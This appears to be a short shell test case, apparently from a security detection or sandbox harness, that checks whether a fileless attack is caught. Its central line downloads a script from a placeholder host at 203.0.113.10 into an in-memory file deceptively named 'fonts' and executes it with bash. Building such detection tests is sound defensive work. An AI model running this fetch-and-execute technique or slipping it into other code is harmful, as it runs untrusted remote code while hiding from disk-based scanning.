#!/bin/sh
. /opt/case/case.sh

python3 -c '
import os, subprocess, urllib.request
fd = os.memfd_create("fonts")
os.write(fd, urllib.request.urlopen("http://203.0.113.10/payload.sh").read())
raise SystemExit(subprocess.call(["/bin/bash", f"/proc/{os.getpid()}/fd/{fd}"], close_fds=True))'
wait_for /tmp/reached
took_place
